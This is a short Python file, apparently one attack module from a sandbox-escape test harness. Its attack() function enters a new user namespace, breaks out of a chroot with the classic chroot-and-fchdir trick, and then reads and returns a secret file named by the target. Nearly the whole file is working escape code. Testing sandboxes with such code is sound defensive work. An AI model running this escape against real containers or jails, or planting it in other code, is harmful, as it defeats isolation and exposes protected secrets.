"""The classic: a new user namespace for the right to chroot, a chroot below the open folder, and up and out of it."""

import contextlib
import ctypes
import os


def attack(target):
    ctypes.CDLL(None).unshare(0x10000000)  # CLONE_NEWUSER
    with contextlib.suppress(OSError):
        up = os.open(".", os.O_RDONLY)
        os.mkdir("jail")
        os.chroot("jail")
        os.fchdir(up)
        for _ in range(30):
            os.chdir("..")
        os.chroot(".")
    try:
        with open(target["secret_file"]) as file:
            return [file.read()]
    except OSError:
        return []
